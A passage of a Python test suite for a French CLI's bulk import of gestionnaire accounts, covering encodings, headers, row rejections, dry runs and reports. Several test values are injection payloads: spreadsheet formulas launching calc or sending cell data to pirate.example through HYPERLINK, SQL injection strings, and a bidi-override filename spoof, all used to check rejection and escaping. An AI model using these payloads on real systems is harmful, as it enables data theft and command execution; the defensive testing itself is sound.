"""Bulk import and export of gestionnaires through the CLI (SPEC §6): the files administrators
really have (CSV as Excel writes it in France, XLSX, JSON, NDJSON, standard input), headers as
people type them, every rejected row named by its spreadsheet line and column, a dry run that
writes nothing, reports that never carry a formula, re-runs that create nothing twice, and an
export that re-imports into another organisme unchanged."""

from __future__ import annotations

import json
from typing import Any

import pytest

from cpfadmin.domain import tableur, validation
from tests.support.console import (
    MOT_DE_PASSE_GESTIONNAIRE,
    SIRET_AUTRE,
    SIRET_EMPLOYEUR,
    courriels,
    empreinte,
    erreur_en_une_ligne,
    evenements,
    tous_les_temporaires,
)
from tests.support.employeur import ADRESSE_AP, par_ligne
from tests.support.tableurs import (
    COLONNES,
    ENTETES_FRANCAIS,
    agent,
    agents,
    ecrire_csv,
    ecrire_json,
    ecrire_ndjson,
    ecrire_xlsx,
    lire_csv,
    lire_xlsx,
    octets_csv,
    texte_ndjson,
    unites_en_base,
)


def noms(comptes: dict[str, dict[str, Any]]) -> set[tuple[str, str, str]]:
    return {(c["email"], c["nom"], c["prenom"]) for c in comptes.values()}


def attendus(lignes: list[dict[str, Any]]) -> set[tuple[str, str, str]]:
    return {(ligne["email"], ligne["nom"], ligne["prenom"]) for ligne in lignes}


ACCENTUES = [
    agent(0, nom="Lefèvre", prenom="Hélène"),
    agent(1, nom="Zoé-Maëlle", prenom="Zoé"),
    agent(2, nom="Œuvray", prenom="François"),
]


# === 1. formats and encodings ==================================================================
@pytest.mark.parametrize("separateur", [";", ","])
@pytest.mark.parametrize(
    "encodage, libelle",
    [("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8 avec BOM"), ("cp1252", "Windows-1252")],
)
def test_a_csv_with_semicolons_or_commas_in_any_excel_encoding_imports_with_accents_intact(
    employeur, separateur, encodage, libelle
):
    chemin = ecrire_csv(
        employeur.fichier("agents.csv"),
        ACCENTUES,
        entetes=ENTETES_FRANCAIS,
        encodage=encodage,
        separateur=separateur,
        fin="\r\n",
    )
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 0, r.stderr
    assert rapport["source"] == f"CSV ({libelle}, séparateur « {separateur} »)"
    assert rapport["resume"] == {"crees": 3, "mis_a_jour": 0, "existants": 0, "rejetes": 0}
    assert noms(employeur.importes()) == attendus(ACCENTUES)
    assert {"Lefèvre", "Zoé-Maëlle", "Œuvray"} <= {c["nom"] for c in employeur.importes().values()}


@pytest.mark.parametrize("fin", ["\r\n", "\n"], ids=["crlf", "lf"])
def test_line_ends_leave_no_carriage_return_in_the_cells(employeur, fin):
    lignes = [agent(n, unite="", administrateur_delegue="non") for n in range(3)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, fin=fin)
    r, _ = employeur.importer_json(chemin)
    assert r.exit_code == 0, r.stdout
    for compte in employeur.importes().values():
        assert all("\r" not in str(v) for v in compte.values()), compte
        assert compte["role"] == "gestionnaire"  # "non\r" would be an invalid délégué cell


def test_a_real_xlsx_imports_numbers_typed_as_numbers_and_boolean_cells(employeur):
    chemin = ecrire_xlsx(
        employeur.fichier("agents.xlsx"),
        [
            agent(
                0,
                nom="Lefèvre",
                prenom="Hélène",
                telephone_mobile=612345678,
                telephone_fixe=None,
                administrateur_delegue=True,
            ),
            agent(1, telephone_fixe=145678901, telephone_mobile="", administrateur_delegue=False),
            agent(2, administrateur_delegue=1, niveau_habilitation="Gestion"),
        ],
        entetes=ENTETES_FRANCAIS,
    )
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 0, r.stdout
    assert rapport["source"] == "XLSX, feuille « Agents »"
    comptes = employeur.importes()
    helene = comptes[agent(0)["email"]]
    assert (helene["nom"], helene["prenom"]) == ("Lefèvre", "Hélène")
    assert helene["telephone_mobile"] == "+33612345678"  # the lost leading 0 is no matter
    assert helene["role"] == "administrateur_delegue"
    assert comptes[agent(1)["email"]]["telephone_fixe"] == "+33145678901"
    assert comptes[agent(1)["email"]]["role"] == "gestionnaire"
    assert comptes[agent(2)["email"]]["role"] == "administrateur_delegue"
    assert comptes[agent(2)["email"]]["niveau_habilitation"] == "gestion"


def test_a_json_array_imports_with_json_types(employeur):
    lignes = [
        {"Nom": "Lefèvre", "Prénom": "Hélène", "Courriel": "helene@lumiere.example",
         "Portable": 612345678, "Délégué": True},
        {"Nom": "Dupré", "Prénom": "Zoé", "Courriel": "zoe@lumiere.example",
         "Téléphone fixe": "01 45 67 89 01", "Délégué": None, "Unité": None},
    ]  # fmt: skip
    chemin = ecrire_json(employeur.fichier("agents.json"), lignes)
    r, rapport = employeur.importer_json(chemin)

    assert r.exit_code == 0, r.stdout
    assert rapport["source"] == "JSON"
    assert [e["ligne"] for e in rapport["lignes"]] == [1, 2]  # the elements' numbers
    comptes = employeur.importes()
    assert comptes["helene@lumiere.example"]["telephone_mobile"] == "+33612345678"
    assert comptes["helene@lumiere.example"]["role"] == "administrateur_delegue"
    assert comptes["zoe@lumiere.example"]["nom"] == "Dupré"
    assert comptes["zoe@lumiere.example"]["telephone_fixe"] == "+33145678901"
    assert comptes["zoe@lumiere.example"]["role"] == "gestionnaire"


def test_two_spellings_of_one_column_in_a_json_file_are_refused(employeur):
    lignes = [
        {"nom": "Lefèvre", "prenom": "Hélène", "email": "helene@lumiere.example",
         "telephone_mobile": "06 12 34 56 78"},
        {"nom": "Dupré", "prenom": "Zoé", "Courriel": "zoe@lumiere.example",
         "telephone_mobile": "06 12 34 56 79"},
    ]  # fmt: skip
    chemin = ecrire_json(employeur.fichier("agents.json"), lignes)
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin)
    assert r.exit_code == 7
    assert "« email » et « Courriel »" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant


def test_ndjson_imports_and_names_rows_by_their_line(employeur):
    chemin = employeur.fichier("agents.ndjson")
    chemin.write_text(
        texte_ndjson([ACCENTUES[0]]) + "\n" + texte_ndjson([agent(5, email="pas-une-adresse")]),
        encoding="utf-8",
    )
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 7
    assert rapport["source"] == "NDJSON"
    assert par_ligne(rapport)[1]["resultat"] == "cree"
    assert par_ligne(rapport)[3]["resultat"] == "rejete"
    assert par_ligne(rapport)[3]["colonne"] == "email"
    assert noms(employeur.importes()) == attendus([ACCENTUES[0]])


@pytest.mark.parametrize(
    "entree, source",
    [
        (octets_csv(ACCENTUES, entetes=ENTETES_FRANCAIS, encodage="cp1252"), "Windows-1252"),
        (octets_csv(ACCENTUES, entetes=ENTETES_FRANCAIS, encodage="utf-8-sig"), "UTF-8 avec BOM"),
        (octets_csv(ACCENTUES, separateur=",").decode(), "UTF-8, séparateur « , »"),
    ],
    ids=["windows-1252", "bom", "texte"],
)
def test_dash_reads_a_csv_from_standard_input(employeur, entree, source):
    r, rapport = employeur.importer_json("-", "--create-unites", input=entree)

    assert r.exit_code == 0, r.stderr
    assert source in rapport["source"]
    assert noms(employeur.importes()) == attendus(ACCENTUES)
    evenement = evenements(employeur.url, "compte_cree")[-1]
    assert evenement["details"]["import"]["source"] == "-"


@pytest.mark.parametrize("format_", ["json", "ndjson", "xlsx"])
def test_dash_sniffs_json_ndjson_and_xlsx_on_standard_input(employeur, format_):
    """A workbook piped in (``cat agents.xlsx | cpfadmin gestionnaires import -``) is read
    like one on disk."""
    chemin = employeur.fichier(f"agents.{format_}")
    {"json": ecrire_json, "ndjson": ecrire_ndjson, "xlsx": ecrire_xlsx}[format_](chemin, ACCENTUES)
    r, rapport = employeur.importer_json("-", "--create-unites", input=chemin.read_bytes())
    assert r.exit_code == 0, r.stderr
    assert rapport["source"].split(",")[0] == format_.upper()
    assert noms(employeur.importes()) == attendus(ACCENTUES)


def test_format_forces_the_reader_of_a_file_with_a_wrong_extension(employeur):
    chemin = ecrire_ndjson(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)

    r = employeur.importer(chemin, "--create-unites")  # read as CSV: no column found
    assert r.exit_code == 7
    assert "Colonne(s) obligatoire(s) absente(s)" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant

    r, rapport = employeur.importer_json(chemin, "--format", "ndjson", "--create-unites")
    assert r.exit_code == 0, r.stderr
    assert rapport["source"] == "NDJSON"
    assert noms(employeur.importes()) == attendus(ACCENTUES)


def test_format_xlsx_reads_a_workbook_whatever_its_extension(employeur):
    chemin = ecrire_xlsx(employeur.fichier("agents.xlsx"), ACCENTUES)
    renomme = chemin.rename(employeur.fichier("agents-export-sirh.dat"))
    r, rapport = employeur.importer_json(renomme, "--format", "xlsx", "--create-unites")
    assert r.exit_code == 0, r.stderr
    assert rapport["source"] == "XLSX, feuille « Agents »"
    assert noms(employeur.importes()) == attendus(ACCENTUES)


def test_an_unknown_format_or_an_unreadable_file_is_one_line_exit_7_writing_nothing(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)
    assert "Format inconnu" in erreur_en_une_ligne(employeur.importer(chemin, "--format", "pdf"))
    xlsx = employeur.fichier("faux.xlsx")
    xlsx.write_bytes(b"PK\x03\x04 tronque")
    r = employeur.importer(xlsx)
    assert r.exit_code == 7 and "XLSX illisible" in erreur_en_une_ligne(r)
    r = employeur.importer(employeur.fichier("absent.csv"))
    assert r.exit_code == 7 and "introuvable" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant


def test_a_csv_neither_utf8_nor_windows_1252_is_one_line_exit_7_writing_nothing(employeur):
    """Bytes that Windows-1252 leaves undefined (0x81, 0x8D, 0x8F, 0x90, 0x9D): the malformed
    encoding corpus of SPEC §7 wants a clear error, not "erreur inattendue" (exit 1)."""
    chemin = employeur.fichier("latin.csv")
    chemin.write_bytes(
        octets_csv(ACCENTUES, encodage="cp1252").replace("Lefèvre".encode("cp1252"), b"Lef\x81vre")
    )
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin, "--create-unites")
    assert r.exit_code == 7, (r.exit_code, r.stderr)
    assert "Traceback" not in r.stderr and "inattendue" not in r.stderr
    assert empreinte(employeur.url) == avant


# === 2. headers ================================================================================
VARIANTES_ENTETES = {
    "francais": ENTETES_FRANCAIS,
    "majuscules": {"nom": "NOM", "prenom": "PRENOM", "email": "E-MAIL",
                   "telephone_mobile": "TELEPHONE MOBILE", "administrateur_delegue": "DÉLÉGUÉ"},
    "espaces": {"nom": " Nom ", "prenom": "prénom ", "email": "Courriel",
                "telephone_mobile": "telephone_mobile", "unite": "Unité "},
    "tirets": {"prenom": "Prénom", "email": "E-mail", "telephone_mobile": "Telephone-Mobile",
               "telephone_fixe": "Téléphone-Fixe", "niveau_habilitation": "Niveau-Habilitation",
               "administrateur_delegue": "Administrateur-Délégué"},
    "canoniques": {},
}  # fmt: skip


@pytest.mark.parametrize("variante", list(VARIANTES_ENTETES))
def test_headers_are_matched_without_regard_to_case_accents_spaces_and_hyphens(employeur, variante):
    lignes = [agent(n, unite="Paie") for n in (3, 7, 8)]  # a landline, a délégué, niveaux
    entetes = VARIANTES_ENTETES[variante]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, entetes=entetes)
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 0, r.stdout
    assert rapport["colonnes_inconnues"] == []
    comptes = employeur.importes()
    assert noms(comptes) == attendus(lignes)
    compte = comptes[agent(3)["email"]]
    assert compte["telephone_fixe"] == "+33143000003"
    assert compte["telephone_mobile"] == "+33600000003"
    assert compte["unite"] == "Paie"
    assert compte["niveau_habilitation"] is None
    assert comptes[agent(7)["email"]]["role"] == "administrateur_delegue"
    assert comptes[agent(8)["email"]]["niveau_habilitation"] == "gestion"


def test_an_unknown_column_with_values_stops_the_import_before_anything_is_written(employeur):
    lignes = [agent(n, Matricule=f"M{n:04d}", Commentaire="RAS") for n in range(2)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    avant, eml = empreinte(employeur.url), len(courriels())

    r = employeur.importer(chemin, "--create-unites")
    assert r.exit_code == 7, r.stderr
    message = erreur_en_une_ligne(r)
    assert "Colonne « Matricule » inconnue, remplie (ligne 2)" in message
    assert "Colonne « Commentaire » inconnue, remplie (ligne 2)" in message
    assert '--ignorer-colonne "Matricule"' in message and "Rien n'a été importé." in message
    assert empreinte(employeur.url) == avant and len(courriels()) == eml

    # set aside on purpose: the import goes on, and says nothing of them
    r = employeur.importer(
        chemin,
        "--create-unites",
        "--ignorer-colonne",
        "Matricule",
        "--ignorer-colonne",
        "commentaire",
    )
    assert r.exit_code == 0, r.stderr
    assert "Matricule" not in r.stdout and "Avertissement" not in r.stderr
    r, rapport = employeur.importer_json(
        chemin, "--ignorer-colonne", "Matricule", "--ignorer-colonne", "Commentaire"
    )
    assert rapport["resume"]["existants"] == 2
    assert rapport["colonnes_ignorees"] == ["Matricule", "Commentaire"]


def test_an_unknown_column_left_empty_is_a_warning_not_a_failure(employeur):
    lignes = [agent(n, Matricule="", Commentaire="  ") for n in range(2)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)

    r = employeur.importer(chemin, "--create-unites")
    assert r.exit_code == 0, r.stderr
    assert "Avertissement" in r.stderr and "« Matricule »" in r.stderr
    assert "« Commentaire »" in r.stderr

    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0
    assert rapport["resume"]["existants"] == 2
    assert rapport["colonnes_inconnues"] == ["Matricule", "Commentaire"]


@pytest.mark.parametrize("absente", ["nom", "prenom", "email"])
def test_a_missing_required_column_is_exit_7_before_anything_is_written(employeur, absente):
    lignes = [agent(n, **{absente: None}) for n in range(3)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, entetes=ENTETES_FRANCAIS)
    avant, eml = empreinte(employeur.url), len(courriels())

    r = employeur.importer(chemin, "--create-unites")

    assert r.exit_code == 7
    assert f"absente(s) : {validation.libelle_champ(absente).lower()}" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant
    assert len(courriels()) == eml


@pytest.mark.parametrize(
    "entetes, premier, second",
    [
        ("Nom;Prénom;E-mail;Courriel;Téléphone mobile", "E-mail", "Courriel"),
        ("Nom;NOM;Prénom;E-mail;Téléphone mobile", "Nom", "NOM"),
        ("Nom;Prénom;E-mail;Téléphone mobile;Portable", "Téléphone mobile", "Portable"),
        ("Nom;Prénom;E-mail;Identifiant;identifiant", "Identifiant", "identifiant"),
    ],
)
def test_two_headers_for_one_column_are_exit_7_naming_both(employeur, entetes, premier, second):
    chemin = employeur.fichier("agents.csv")
    chemin.write_text(
        f"{entetes}\r\nDurand;Paul;paul@lumiere.example;a@lumiere.example;06 12 34 56 78\r\n",
        encoding="utf-8",
    )
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin)
    assert r.exit_code == 7
    message = erreur_en_une_ligne(r)
    assert f"« {premier} » et « {second} »" in message
    assert empreinte(employeur.url) == avant


def test_an_exports_identifiant_role_and_statut_columns_are_read_past(employeur):
    lignes = [
        agent(0, identifiant="ZZZZZZZZ", role="administrateur_principal", statut="suspendu"),
        agent(1, identifiant="", role="gestionnaire", statut="supprime"),
    ]
    chemin = ecrire_csv(employeur.fichier("export.csv"), lignes, entetes={"role": "Rôle"})
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 0, r.stdout
    assert rapport["colonnes_inconnues"] == []
    assert "Avertissement" not in r.stderr
    comptes = employeur.importes()
    assert {c["statut"] for c in comptes.values()} == {"actif"}
    assert {c["role"] for c in comptes.values()} == {"gestionnaire"}
    assert "ZZZZZZZZ" not in {c["identifiant"] for c in comptes.values()}


# === 3. rejections: each names its spreadsheet line and column =================================
REJETS = {
    "email": ({"email": "paul.durand@@lumiere"}, "email", "Adresse e-mail invalide"),
    "email-vide": ({"email": ""}, "email", "e-mail : valeur obligatoire"),
    "sans-telephone": (
        {"telephone_fixe": "", "telephone_mobile": ""},
        "telephone_fixe/telephone_mobile",
        "Au moins un numéro de téléphone",
    ),
    "mobile": ({"telephone_mobile": "12 34"}, "telephone_mobile", "Téléphone mobile invalide"),
    "fixe-etranger": (
        {"telephone_fixe": "+1 212 555 0100"},
        "telephone_fixe",
        "n'est pas un numéro français",
    ),
    "mobile-lettres": ({"telephone_mobile": "06 12 AB 56 78"}, "telephone_mobile", "chiffres"),
    "niveau": ({"niveau_habilitation": "total"}, "niveau_habilitation", "consultation ou gestion"),
    "delegue": ({"administrateur_delegue": "peut-être"}, "administrateur_delegue", "oui/non"),
    "unite": ({"unite": "Logistique"}, "unite", "--create-unites"),
    "formule-nom": ({"nom": "=cmd|' /C calc'!A0"}, "nom", "ne peut pas commencer par « = »"),
    "formule-prenom": ({"prenom": "+SUM(1;2)"}, "prenom", "ne peut pas commencer par « + »"),
    "formule-arobase": ({"nom": "@SUM(A1)"}, "nom", "ne peut pas commencer par « @ »"),
    "formule-tiret": ({"prenom": "-2+3"}, "prenom", "ne peut pas commencer par « - »"),
    "formule-hyperlien": (
        {"nom": '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'},
        "nom",
        "ne peut pas commencer par « = »",
    ),
    "controle-bell": ({"nom": "Du\x07rand"}, "nom", "caractères de contrôle"),
    "controle-escape": ({"prenom": "\x1b[31mPaul"}, "prenom", "caractères de contrôle"),
    "controle-tabulation": ({"nom": "Du\trand"}, "nom", "caractères de contrôle"),
    "controle-bidi": ({"nom": "Durand\u202egnp.exe"}, "nom", "caractères de contrôle"),
    "controle-email": ({"email": "paul\x00@lumiere.example"}, "email", "caractères de contrôle"),
    "nom-trop-long": ({"nom": "D" * 101}, "nom", "100 caractères au plus"),
    "prenom-trop-long": ({"prenom": "P" * 101}, "prenom", "100 caractères au plus"),
    "email-trop-long": ({"email": "p" * 250 + "@lumiere.example"}, "email", "254 caractères"),
    "unite-trop-longue": ({"unite": "U" * 101}, "unite", "100 caractères au plus"),
    "cellule-enorme": ({"nom": "D" * 5000}, "nom", "trop longue"),
    "telephone-enorme": ({"telephone_mobile": "0" * 3000}, "telephone_mobile", "trop longue"),
}


@pytest.mark.parametrize("cas", list(REJETS))
@pytest.mark.parametrize("format_", ["csv", "json"])
def test_a_bad_row_is_rejected_naming_its_line_and_column_the_others_are_created(
    employeur, cas, format_
):
    surcharges, colonne, raison = REJETS[cas]
    lignes = [agent(10, unite=""), agent(11, **{"unite": "", **surcharges}), agent(12, unite="")]
    if format_ == "csv":
        chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, entetes=ENTETES_FRANCAIS)
        numero = 3  # the header is line 1
    else:
        chemin = ecrire_json(employeur.fichier("agents.json"), lignes)
        numero = 2  # the element's number
    r, rapport = employeur.importer_json(chemin)

    lignes_rapport = par_ligne(rapport)
    assert r.exit_code == 7, rapport
    rejet = lignes_rapport[numero]
    assert rejet["resultat"] == "rejete"
    assert rejet["colonne"] == colonne
    assert raison in rejet["raison"]
    assert rejet["identifiant"] is None
    assert rapport["resume"]["rejetes"] == 1 and rapport["resume"]["crees"] == 2
    assert {n: e["resultat"] for n, e in lignes_rapport.items()} == {
        numero - 1: "cree",
        numero: "rejete",
        numero + 1: "cree",
    }
    assert noms(employeur.importes()) == attendus([lignes[0], lignes[2]])
    assert json.loads(r.stderr)["erreur"]["code"] == 7


def test_sql_fragments_in_cells_are_only_text(employeur):
    lignes = [
        agent(1, nom="Robert'); DROP TABLE compte;--", prenom="O'Brien"),
        agent(2, unite="Paie' OR '1'='1"),
    ]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    r, _ = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0
    comptes = employeur.importes()
    assert comptes[agent(1)["email"]]["nom"] == "Robert'); DROP TABLE compte;--"
    assert comptes[agent(1)["email"]]["prenom"] == "O'Brien"
    assert comptes[agent(2)["email"]]["unite"] == "Paie' OR '1'='1"


def test_the_table_report_and_the_one_line_error_name_the_rejected_line(employeur):
    lignes = [agent(10), agent(11, telephone_mobile="12 34", telephone_fixe=""), agent(12)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    r = employeur.importer(chemin, "--create-unites")
    assert r.exit_code == 7
    ligne_rejet = next(t for t in r.stdout.splitlines() if "rejeté" in t)
    assert ligne_rejet.split()[0] == "3" and "telephone_mobile" in ligne_rejet
    assert "1 ligne(s) rejetée(s)" in r.stderr
    assert "Traceback" not in r.stderr


def test_a_duplicate_email_in_the_file_whatever_its_case_names_the_first_line(employeur):
    lignes = [agent(n) for n in range(4)] + [agent(20, email=agent(1)["email"].upper())]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    r, rapport = employeur.importer_json(chemin, "--create-unites")

    assert r.exit_code == 7
    rejet = par_ligne(rapport)[6]
    assert (rejet["resultat"], rejet["colonne"]) == ("rejete", "email")
    assert "déjà ligne 3" in rejet["raison"]
    assert par_ligne(rapport)[3]["resultat"] == "cree"
    assert len(employeur.importes()) == 4


def test_an_existing_account_is_skipped_by_default_and_rejected_with_on_existing_fail(employeur):
    premier = [agent(n) for n in range(3)]
    employeur.importer_json(ecrire_csv(employeur.fichier("a.csv"), premier), "--create-unites")
    identifiant = employeur.importes()[agent(1)["email"]]["identifiant"]
    second = [agent(1, email=agent(1)["email"].upper(), nom="Autre"), agent(5)]
    chemin = ecrire_csv(employeur.fichier("b.csv"), second)

    r, rapport = employeur.importer_json(chemin, "--create-unites")
    assert r.exit_code == 0
    assert par_ligne(rapport)[2] | {"email": None} == {
        "ligne": 2, "resultat": "existant", "identifiant": identifiant,
        "email": None, "colonne": None, "raison": None,
    }  # fmt: skip
    assert employeur.importes()[agent(1)["email"]]["nom"] == agent(1)["nom"]  # untouched

    r, rapport = employeur.importer_json(chemin, "--create-unites", "--on-existing", "fail")
    assert r.exit_code == 7
    rejet = par_ligne(rapport)[2]
    assert (rejet["resultat"], rejet["colonne"]) == ("rejete", "email")
    assert identifiant in rejet["raison"] and rejet["identifiant"] == identifiant
    assert par_ligne(rapport)[3]["resultat"] == "rejete"  # created by the first run

    r = employeur.importer(chemin, "--on-existing", "merge")
    assert r.exit_code == 7 and "skip, update ou fail" in erreur_en_une_ligne(r)


def test_a_delegated_admin_may_import_gestionnaires_but_not_delegated_admins(employeur, delegue):
    lignes = [agent(1, administrateur_delegue="non"), agent(2, administrateur_delegue="oui")]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes, entetes=ENTETES_FRANCAIS)

    r, rapport = employeur.importer_json(chemin, "--create-unites", jeton=delegue)
    assert r.exit_code == 7
    rejet = par_ligne(rapport)[3]
    assert (rejet["resultat"], rejet["colonne"]) == ("rejete", "administrateur_delegue")
    assert "administrateur principal" in rejet["raison"]
    assert par_ligne(rapport)[2]["resultat"] == "cree"
    assert employeur.importes()[agent(1)["email"]]["role"] == "gestionnaire"

    r, rapport = employeur.importer_json(chemin, "--create-unites")  # the principal admin may
    assert r.exit_code == 0
    assert employeur.importes()[agent(2)["email"]]["role"] == "administrateur_delegue"


def test_a_gestionnaire_may_not_import_and_nothing_is_written(employeur, gestionnaire):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin, "--create-unites", jeton=gestionnaire)
    assert r.exit_code == 4
    erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant


def test_an_admin_may_not_import_into_another_organisme(employeur):
    employeur.console.creer_organisme(employeur.op, SIRET_AUTRE, "Lumière Services")
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin, "--organisme", SIRET_AUTRE, "--create-unites")
    assert r.exit_code == 4
    assert empreinte(employeur.url) == avant


# === 4. dry run ================================================================================
def test_dry_run_writes_nothing_and_says_what_would_happen(employeur):
    employeur.importer_json(ecrire_csv(employeur.fichier("a.csv"), [agent(1)]), "--create-unites")
    lignes = [agent(n) for n in range(5)] + [agent(9, email="pas-une-adresse")]
    chemin = ecrire_csv(employeur.fichier("b.csv"), lignes, entetes=ENTETES_FRANCAIS)
    avant, eml = empreinte(employeur.url), len(courriels())
    unites = unites_en_base(employeur.url, SIRET_EMPLOYEUR)

    r, rapport = employeur.importer_json(chemin, "--dry-run", "--create-unites")

    assert r.exit_code == 7
    assert rapport["simulation"] is True
    assert rapport["resume"] == {"a_creer": 4, "a_mettre_a_jour": 0, "existants": 1, "rejetes": 1}
    assert rapport["unites_a_creer"] == ["Comptabilité", "Paie", "Ressources humaines"]
    assert {n: e["resultat"] for n, e in par_ligne(rapport).items()} == {
        2: "a_creer", 3: "existant", 4: "a_creer", 5: "a_creer", 6: "a_creer", 7: "rejete",
    }  # fmt: skip
    assert empreinte(employeur.url) == avant  # no account, unité, audit event or message
    assert unites_en_base(employeur.url, SIRET_EMPLOYEUR) == unites
    assert len(courriels()) == eml


def test_dry_run_summary_is_on_stderr_and_exit_0_when_every_row_is_valid(employeur):
    chemin = ecrire_csv(employeur.fichier("a.csv"), ACCENTUES, encodage="cp1252")
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin, "--dry-run", "--create-unites")
    assert r.exit_code == 0, r.stderr
    assert "(CSV (Windows-1252, séparateur « ; »)) : 3 à créer" in r.stderr
    assert "Rien n'a été écrit." in r.stderr
    assert "Simulation" not in r.stdout
    assert r.stdout.count("à créer") == 3
    assert empreinte(employeur.url) == avant


# === 5. reports ================================================================================
PIEGES = [
    agent(30, nom='=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'),
    agent(31, email='=HYPERLINK("http://pirate.example";"ici")'),
    agent(32, email="+33612345678"),
    agent(33, email="-2+3+cmd|' /C calc'!A0"),
    agent(34, email="@SUM(1+1)*cmd|' /C calc'!A0"),
    agent(35, email="\t=1+1"),
    agent(36, email="'=1+1"),  # the escape a spreadsheet shows, typed back
    agent(37, administrateur_delegue="=1+1"),
    agent(38, unite="=1+1"),
]


def test_the_csv_report_is_for_excel_and_never_carries_a_formula(employeur):
    lignes = [agent(1), *PIEGES, agent(2)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    rapport_csv = employeur.fichier("rapport.csv")

    r = employeur.importer(chemin, "--create-unites", "--report", str(rapport_csv))

    assert r.exit_code == 7
    assert f"voir le rapport ({rapport_csv})" in r.stderr
    octets = rapport_csv.read_bytes()
    assert octets.startswith(b"\xef\xbb\xbf")
    assert octets.splitlines()[0] == b"\xef\xbb\xbfligne;resultat;identifiant;email;colonne;raison"
    rapport = lire_csv(octets)
    assert len(rapport) == len(lignes)
    for ligne in rapport:
        for cellule in ligne.values():
            assert cellule[:1] not in ("=", "+", "-", "@", "\t", "\r"), ligne
    par_numero = {int(e["ligne"]): e for e in rapport}
    assert par_numero[3]["resultat"] == "rejete" and par_numero[3]["colonne"] == "nom"
    assert par_numero[4]["email"] == '\'=HYPERLINK("http://pirate.example";"ici")'
    assert par_numero[5]["email"] == "'+33612345678"
    assert {int(e["ligne"]) for e in rapport if e["resultat"] == "rejete"} == set(range(3, 12))
    comptes = employeur.importes()
    for numero, ligne in ((2, agent(1)), (12, agent(2))):
        assert par_numero[numero]["resultat"] == "cree"
        assert par_numero[numero]["identifiant"] == comptes[ligne["email"]]["identifiant"]


def test_the_json_report_carries_every_row_and_the_new_identifiants(employeur):
    lignes = [agent(1), agent(2, niveau_habilitation="total"), agent(3)]
    chemin = ecrire_csv(employeur.fichier("agents.csv"), lignes)
    rapport_json = employeur.fichier("rapport.json")

    r = employeur.importer(chemin, "--create-unites", "--report", str(rapport_json))

    assert r.exit_code == 7
    rapport = json.loads(rapport_json.read_text(encoding="utf-8"))
    comptes = employeur.importes()
    assert rapport == [
        {"ligne": 2, "resultat": "cree", "identifiant": comptes[agent(1)["email"]]["identifiant"],
         "email": agent(1)["email"], "colonne": None, "raison": None},
        {"ligne": 3, "resultat": "rejete", "identifiant": None, "email": agent(2)["email"],
         "colonne": "niveau_habilitation", "raison": rapport[1]["raison"]},
        {"ligne": 4, "resultat": "cree", "identifiant": comptes[agent(3)["email"]]["identifiant"],
         "email": agent(3)["email"], "colonne": None, "raison": None},
    ]  # fmt: skip
    assert "total" in rapport[1]["raison"]


def test_a_report_must_be_csv_or_json_and_nothing_is_written_otherwise(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)
    r = employeur.importer(chemin, "--report", str(employeur.fichier("rapport.xlsx")))
    assert r.exit_code == 7 and "--report" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant
    assert not employeur.fichier("rapport.xlsx").exists()


def test_a_report_that_cannot_be_written_is_refused_before_any_account_is_created(employeur):
    """Otherwise the accounts are created, the command dies with "erreur inattendue" (exit 1)
    and the identifiants the administrator must hand out are lost with the report."""
    chemin = ecrire_csv(employeur.fichier("agents.csv"), ACCENTUES)
    avant = empreinte(employeur.url)
    r = employeur.importer(
        chemin, "--create-unites", "--report", str(employeur.fichier("absent/rapport.csv"))
    )
    assert r.exit_code == 7, (r.exit_code, r.stderr)
    assert "absent" in erreur_en_une_ligne(r)
    assert empreinte(employeur.url) == avant


def test_the_csv_output_of_the_report_never_carries_a_formula(employeur):
    chemin = ecrire_csv(employeur.fichier("agents.csv"), [agent(1), *PIEGES])
    r = employeur.console("-o", "csv", "gestionnaires", "import", str(chemin), "--create-unites",
                          jeton=employeur.jeton_ap)  # fmt: skip
    assert r.exit_code == 7
    lignes = lire_csv(r.stdout.encode())
    assert len(lignes) == 1 + len(PIEGES)
    for ligne in lignes:
        for cellule in ligne.values():
            assert cellule[:1] not in ("=", "+", "-", "@", "\t", "\r"), ligne


def test_reported_lines_are_the_spreadsheets_even_with_blank_rows(employeur):
    chemin = employeur.fichier("agents.csv")
